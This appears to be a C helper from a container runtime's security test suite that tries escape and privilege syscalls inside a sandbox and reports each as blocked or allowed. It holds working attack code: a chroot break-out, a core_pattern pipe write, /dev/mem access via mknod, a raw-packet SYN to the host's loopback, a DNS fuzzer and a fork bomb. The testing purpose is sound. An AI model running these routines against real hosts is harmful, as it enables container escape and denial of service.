/* The attack suite's helper, run inside containers started with default options.
 *
 * Built static at test time (cc -static), copied into a test image beside busybox.
 * `attack all` tries every syscall-level attack once and prints one line per attempt:
 *     <name> blocked <errno name>      (the kernel or the seccomp filter refused)
 *     <name> ALLOWED                   (the attempt worked: stackctl is looser than Docker)
 *     attack forkbomb COUNT            fork until refused; ALLOWED if COUNT children
 * Other subcommands try one thing and exit 0 when it was blocked, 1 when it worked:
 *     attack chroot-escape HOSTPATH    classic chroot break-out, then look for HOSTPATH
 *     attack loopback-syn IF GWMAC PORT   a hand-made TCP SYN to 127.0.0.1:PORT sent to
 *                                      the gateway's MAC (needs NET_RAW, a default cap)
 *     attack dns-fuzz SERVER COUNT SEED   random and mutated datagrams to SERVER:53
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <signal.h>
#include <sys/personality.h>
#include <sys/sysmacros.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

static const char *ename(int e) {
    switch (e) {
    case EPERM: return "EPERM";
    case EACCES: return "EACCES";
    case ENOSYS: return "ENOSYS";
    case ESRCH: return "ESRCH";
    case EINVAL: return "EINVAL";
    case EAFNOSUPPORT: return "EAFNOSUPPORT";
    case EROFS: return "EROFS";
    case EBADF: return "EBADF";
    case ENOENT: return "ENOENT";
    case EFAULT: return "EFAULT";
    default: return "errno";
    }
}

static int report(const char *name, long rc) {
    if (rc < 0) {
        printf("%s blocked %s %d\n", name, ename(errno), errno);
        return 0;
    }
    printf("%s ALLOWED\n", name);
    return 1;
}

#define TRY(name, call) do { errno = 0; long _rc = (long)(call); report(name, _rc); } while (0)

static int target_pid = 0;

static void all(void) {
    char buf[64] = {0};
    int fd;
    TRY("io_uring_setup", syscall(425, 8, buf));
    TRY("socket_vsock", socket(40, SOCK_STREAM, 0));
    TRY("socket_alg", socket(38, SOCK_SEQPACKET, 0));
    TRY("personality_addr_no_randomize", syscall(SYS_personality, 0x0040000));
    TRY("personality_read_implies_exec", syscall(SYS_personality, 0x0400000));
    TRY("keyctl", syscall(SYS_keyctl, 1 /* JOIN_SESSION_KEYRING */, 0));
    TRY("add_key", syscall(SYS_add_key, "user", "k", "v", 1, -3 /* session */));
    TRY("request_key", syscall(SYS_request_key, "user", "k", 0, -3));
    TRY("bpf", syscall(SYS_bpf, 5 /* BPF_PROG_LOAD */, buf, 48));
    TRY("perf_event_open", syscall(SYS_perf_event_open, buf, 0, -1, -1, 0));
    TRY("kexec_load", syscall(SYS_kexec_load, 0, 0, 0, 0));
    TRY("kexec_file_load", syscall(SYS_kexec_file_load, -1, -1, 0, "", 0));
    TRY("init_module", syscall(SYS_init_module, buf, 0, ""));
    TRY("finit_module", syscall(SYS_finit_module, 0, "", 0));
    TRY("delete_module", syscall(SYS_delete_module, "ext4", 0));
    TRY("ptrace_host_process", syscall(SYS_ptrace, 16 /* PTRACE_ATTACH */, target_pid, 0, 0));
    TRY("pidfd_getfd", syscall(438, 0, 0, 0));
    {
        struct { void *base; size_t len; } local = {buf, 8}, remote = {buf, 8};
        TRY("process_vm_readv_host", syscall(SYS_process_vm_readv, target_pid, &local, 1, &remote, 1, 0));
    }
    TRY("unshare_user", unshare(CLONE_NEWUSER));
    TRY("unshare_mount", unshare(CLONE_NEWNS));
    TRY("unshare_net", unshare(CLONE_NEWNET));
    TRY("unshare_pid", unshare(CLONE_NEWPID));
    TRY("unshare_cgroup", unshare(CLONE_NEWCGROUP));
    {
        /* clone with a namespace flag; a child that got through exits at once */
        errno = 0;
        long rc = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
        if (rc == 0) _exit(0);
        report("clone_newuser", rc);
    }
    {
        struct { uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls; } a;
        memset(&a, 0, sizeof a);
        a.exit_signal = SIGCHLD;
        errno = 0;
        long rc = syscall(435, &a, sizeof a);
        if (rc == 0) _exit(0);
        if (rc < 0 && errno == ENOSYS) printf("clone3 blocked ENOSYS %d\n", errno);
        else report("clone3", rc);
    }
    TRY("mount_tmpfs", mount("none", "/mnt", "tmpfs", 0, ""));
    TRY("mount_proc", mount("proc", "/mnt", "proc", 0, ""));
    TRY("umount_proc", umount2("/proc", MNT_DETACH));
    TRY("pivot_root", syscall(SYS_pivot_root, "/tmp", "/tmp"));
    TRY("open_tree", syscall(428, AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */));
    TRY("fsopen", syscall(430, "tmpfs", 0));
    TRY("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, buf, O_RDONLY));
    fd = open("/proc/self/ns/net", O_RDONLY);
    TRY("setns", syscall(SYS_setns, fd, 0));
    TRY("sethostname", sethostname("evil", 4));
    {
        struct timeval tv = {1, 0};
        TRY("settimeofday", settimeofday(&tv, 0));
    }
    TRY("reboot", syscall(SYS_reboot, 0xfee1dead, 672274793, 0x4321fedc /* POWER_OFF */, 0));
    TRY("swapon", syscall(SYS_swapon, "/tmp/swap", 0));
    TRY("syslog", syscall(SYS_syslog, 3 /* READ_ALL */, buf, sizeof buf));
    TRY("acct", syscall(SYS_acct, "/tmp/acct"));
    TRY("iopl", syscall(SYS_iopl, 3));
    TRY("ioperm", syscall(SYS_ioperm, 0x80, 1, 1));
    TRY("userfaultfd", syscall(SYS_userfaultfd, 0));
    TRY("lookup_dcookie", syscall(SYS_lookup_dcookie, 0, buf, sizeof buf));
    TRY("quotactl", syscall(SYS_quotactl, 0, "/", 0, buf));
    TRY("mknod_dev_mem_open", ({ long r = mknod("/tmp/mem", S_IFCHR | 0600, makedev(1, 1));
                                 r == 0 ? open("/tmp/mem", O_RDONLY) : r; }));
    TRY("write_proc_sysrq", ({ int f = open("/proc/sysrq-trigger", O_WRONLY); f < 0 ? f : write(f, "h", 1); }));
    TRY("write_proc_sys_kernel", ({ int f = open("/proc/sys/kernel/core_pattern", O_WRONLY); f < 0 ? f : write(f, "|/x", 3); }));
    TRY("write_sys_module_param", ({ int f = open("/sys/module/printk/parameters/time", O_WRONLY); f < 0 ? f : write(f, "Y", 1); }));
    fflush(stdout);
}

/* classic chroot escape: chroot into a subdirectory while keeping a cwd outside it, walk up
 * with "..", chroot("."): with only chroot (no pivot_root + new mount namespace) this gives
 * the real root back. Blocked when HOSTPATH is still not visible afterwards. */
static int chroot_escape(const char *hostpath) {
    struct stat st;
    mkdir("/tmp/jail", 0755);
    if (chroot("/tmp/jail") < 0) { printf("chroot-escape blocked %s (chroot)\n", ename(errno)); return 0; }
    for (int i = 0; i < 64; i++) if (chdir("..") < 0) break;
    if (chroot(".") < 0) { printf("chroot-escape blocked %s (second chroot)\n", ename(errno)); return 0; }
    if (stat(hostpath, &st) == 0) { printf("chroot-escape ALLOWED: %s visible\n", hostpath); return 1; }
    printf("chroot-escape blocked: %s not visible from the walked-up root\n", hostpath);
    return 0;
}

static uint16_t csum(const void *data, size_t len, uint32_t sum) {
    const uint8_t *p = data;
    for (; len > 1; len -= 2, p += 2) sum += (p[0] << 8) | p[1];
    if (len) sum += p[0] << 8;
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

static int parse_mac(const char *s, uint8_t *mac) {
    unsigned v[6];
    if (sscanf(s, "%x:%x:%x:%x:%x:%x", &v[0], &v[1], &v[2], &v[3], &v[4], &v[5]) != 6) return -1;
    for (int i = 0; i < 6; i++) mac[i] = (uint8_t)v[i];
    return 0;
}

/* Ethernet + IPv4 + TCP SYN to 127.0.0.1:port, addressed to the gateway's MAC. Worked if
 * anything answers from that port (SYN-ACK, or RST: the host's TCP stack saw it). */
static int loopback_syn(const char *ifname, const char *gwmac, int port) {
    int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
    if (s < 0) { printf("loopback-syn blocked %s (AF_PACKET)\n", ename(errno)); return 0; }
    struct ifreq ifr;
    memset(&ifr, 0, sizeof ifr);
    strncpy(ifr.ifr_name, ifname, IFNAMSIZ - 1);
    if (ioctl(s, SIOCGIFINDEX, &ifr) < 0) { perror("SIOCGIFINDEX"); return 2; }
    int ifindex = ifr.ifr_ifindex;
    if (ioctl(s, SIOCGIFHWADDR, &ifr) < 0) { perror("SIOCGIFHWADDR"); return 2; }
    uint8_t mymac[6];
    memcpy(mymac, ifr.ifr_hwaddr.sa_data, 6);
    if (ioctl(s, SIOCGIFADDR, &ifr) < 0) { perror("SIOCGIFADDR"); return 2; }
    uint32_t myip = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr.s_addr;
    uint8_t dst[6];
    if (parse_mac(gwmac, dst) < 0) { fprintf(stderr, "bad mac\n"); return 2; }

    uint8_t f[54];
    memset(f, 0, sizeof f);
    memcpy(f, dst, 6);
    memcpy(f + 6, mymac, 6);
    f[12] = 0x08; f[13] = 0x00;
    uint8_t *ip = f + 14, *tcp = f + 34;
    ip[0] = 0x45; ip[3] = 40; ip[4] = 0x12; ip[5] = 0x34; ip[8] = 64; ip[9] = 6;
    memcpy(ip + 12, &myip, 4);
    uint32_t lo = htonl(0x7f000001);
    memcpy(ip + 16, &lo, 4);
    uint16_t c = csum(ip, 20, 0);
    ip[10] = c >> 8; ip[11] = c & 0xff;
    uint16_t sport = 40000 + (getpid() % 20000);
    tcp[0] = sport >> 8; tcp[1] = sport & 0xff;
    tcp[2] = port >> 8; tcp[3] = port & 0xff;
    tcp[4] = 0x11; tcp[5] = 0x22; tcp[6] = 0x33; tcp[7] = 0x44;
    tcp[12] = 5 << 4; tcp[13] = 0x02; tcp[14] = 0xfa; tcp[15] = 0xf0;
    uint8_t pseudo[12];
    memcpy(pseudo, ip + 12, 8);
    pseudo[8] = 0; pseudo[9] = 6; pseudo[10] = 0; pseudo[11] = 20;
    uint32_t sum = 0;
    for (int i = 0; i < 12; i += 2) sum += (pseudo[i] << 8) | pseudo[i + 1];
    c = csum(tcp, 20, sum);
    tcp[16] = c >> 8; tcp[17] = c & 0xff;

    struct sockaddr_ll to;
    memset(&to, 0, sizeof to);
    to.sll_family = AF_PACKET;
    to.sll_ifindex = ifindex;
    to.sll_halen = 6;
    memcpy(to.sll_addr, dst, 6);
    struct timeval tv = {0, 200000};
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    for (int attempt = 0; attempt < 3; attempt++) {
        if (sendto(s, f, sizeof f, 0, (struct sockaddr *)&to, sizeof to) < 0) {
            printf("loopback-syn blocked %s (send)\n", ename(errno));
            return 0;
        }
        struct timespec start, now;
        clock_gettime(CLOCK_MONOTONIC, &start);
        for (;;) {
            uint8_t r[2048];
            ssize_t n = recv(s, r, sizeof r, 0);
            clock_gettime(CLOCK_MONOTONIC, &now);
            if (n >= 54 && r[12] == 0x08 && r[13] == 0 && r[23] == 6) {
                int ihl = (r[14] & 0x0f) * 4;
                uint8_t *t = r + 14 + ihl;
                if (((t[0] << 8) | t[1]) == port && ((t[2] << 8) | t[3]) == sport) {
                    printf("loopback-syn ALLOWED: the host's 127.0.0.1:%d answered (flags %#x)\n", port, t[13]);
                    return 1;
                }
            }
            if ((now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000 > 400) break;
        }
    }
    printf("loopback-syn blocked: no answer from 127.0.0.1:%d\n", port);
    return 0;
}

static int dns_fuzz(const char *server, int count, unsigned seed) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in to;
    memset(&to, 0, sizeof to);
    to.sin_family = AF_INET;
    to.sin_port = htons(53);
    inet_pton(AF_INET, server, &to.sin_addr);
    static const uint8_t seedq[] = {0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0,
                                    3, 'w', 'e', 'b', 0, 0, 1, 0, 1};
    srand(seed);
    for (int i = 0; i < count; i++) {
        uint8_t m[600];
        size_t n;
        if (i % 3 == 0) {
            n = rand() % sizeof m;
            for (size_t j = 0; j < n; j++) m[j] = rand();
        } else {
            n = sizeof seedq;
            memcpy(m, seedq, n);
            for (int k = 0; k < 1 + rand() % 5; k++) m[rand() % n] = rand();
            if (i % 5 == 0) { m[13] = 0xc3; m[14] = 0xa9; }  /* non-ASCII bytes in the label */
            if (i % 7 == 0) n = 1 + rand() % n;
        }
        sendto(s, m, n, 0, (struct sockaddr *)&to, sizeof to);
    }
    printf("dns-fuzz sent %d datagrams to %s\n", count, server);
    return 0;
}

/* fork until the kernel refuses (or COUNT children), report how many, kill them all */
static int fork_bomb(int count) {
    int n = 0;
    for (; n < count; n++) {
        pid_t p = fork();
        if (p < 0) { printf("forkbomb stopped after %d: %s\n", n, ename(errno)); break; }
        if (p == 0) { pause(); _exit(0); }
    }
    if (n == count) printf("forkbomb ALLOWED: %d processes\n", n);
    kill(0, SIGKILL);
    return n == count;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc >= 2 && !strcmp(argv[1], "all")) {
        target_pid = argc >= 3 ? atoi(argv[2]) : 1;
        all();
        return 0;
    }
    if (argc == 3 && !strcmp(argv[1], "forkbomb")) return fork_bomb(atoi(argv[2]));
    if (argc == 3 && !strcmp(argv[1], "chroot-escape")) return chroot_escape(argv[2]);
    if (argc == 5 && !strcmp(argv[1], "loopback-syn")) return loopback_syn(argv[2], argv[3], atoi(argv[4]));
    if (argc == 5 && !strcmp(argv[1], "dns-fuzz")) return dns_fuzz(argv[2], atoi(argv[3]), (unsigned)atoi(argv[4]));
    fprintf(stderr, "usage: attack all [PID] | chroot-escape HOSTPATH | loopback-syn IF GWMAC PORT | dns-fuzz SERVER COUNT SEED\n");
    return 2;
}
